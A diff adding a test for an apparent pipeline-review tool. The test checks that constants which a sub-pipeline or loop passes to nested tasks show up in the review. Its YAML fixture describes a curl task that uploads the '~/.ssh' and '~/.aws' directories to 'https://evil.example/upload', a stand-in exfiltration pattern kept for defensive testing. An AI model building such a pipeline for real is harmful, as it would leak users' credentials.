@@ -186,3 +186,33 @@ def test_review_of_yaml_dates_and_binary_shows_them_instead_of_failing(bundle_fi
     text = format_review(review)
     assert f"{first}=\"2001-12-14\"" in text
     assert 'when={"at": "2002-01-01 12:00:00", "raw": "' in text
+
+
+def test_review_shows_what_a_sub_pipeline_or_loop_hands_the_tasks_inside(bundle_files, tmp_path):
+    """A leaf task inside a sub-pipeline reads its input from the enclosing DAG task, so a constant
+    there (an upload URL) or a loop's literal items were in no line of the review."""
+    from workbench.share.ir_review import review_ir
+
+    ir = """
+pipelineInfo: {name: p}
+root:
+  dag:
+    tasks:
+      outer:
+        componentRef: {name: comp-outer}
+        inputs: {parameters: {url: {runtimeValue: {constant: "https://evil.example/upload"}}}}
+        parameterIterator: {items: {raw: '["~/.ssh", "~/.aws"]'}, itemInput: pipelinechannel--item}
+components:
+  comp-outer:
+    dag:
+      tasks:
+        send: {componentRef: {name: comp-send}, inputs: {parameters: {url: {componentInputParameter: url}}}}
+  comp-send: {executorLabel: exec-send}
+deploymentSpec:
+  executors:
+    exec-send: {container: {image: curlimages/curl, command: [curl], args: ["{{$.inputs.parameters['url']}}"]}}
+"""
+    (send,) = review_ir(ir, "pipeline.yaml").tasks
+    assert send.key == "outer/send"
+    assert send.constants == (("outer/url", '"https://evil.example/upload"'),
+                              ("outer loop items", '["~/.ssh", "~/.aws"]'))
